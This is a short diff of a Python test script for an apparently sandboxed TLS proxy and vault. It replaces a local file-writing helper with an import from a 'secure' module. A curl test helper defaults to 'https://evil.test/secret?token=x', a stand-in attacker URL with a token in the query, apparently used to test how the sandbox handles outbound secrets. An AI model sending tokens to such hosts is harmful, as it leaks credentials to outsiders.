@@ -4,21 +4,13 @@ import os
 import re
 import subprocess
 import sys
-import tempfile
 
 import tap
 from hello import client_hello
 from place import Bridge, Proxy, Vault, memory_kib
+from secure import write
 
 program, vault_program = sys.argv[1:3]
-folder = tempfile.TemporaryDirectory(prefix="sbx-tls-")
-
-
-def write(name, text):
-    path = os.path.join(folder.name, name)
-    with open(path, "w", encoding="ascii") as file:
-        file.write(text)
-    return path
 
 
 def curl(bridge, vault, *more, url="https://evil.test/secret?token=x", host="evil.test"):
